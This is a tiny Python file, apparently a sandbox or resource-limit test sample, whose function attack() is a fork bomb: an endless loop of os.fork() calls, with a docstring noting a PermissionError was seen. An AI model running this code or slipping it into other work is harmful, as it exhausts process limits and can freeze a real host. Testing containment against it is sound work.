"""Starts processes for as long as it can.

Seen: PermissionError
"""

import os


def attack():
    while True:
        os.fork()
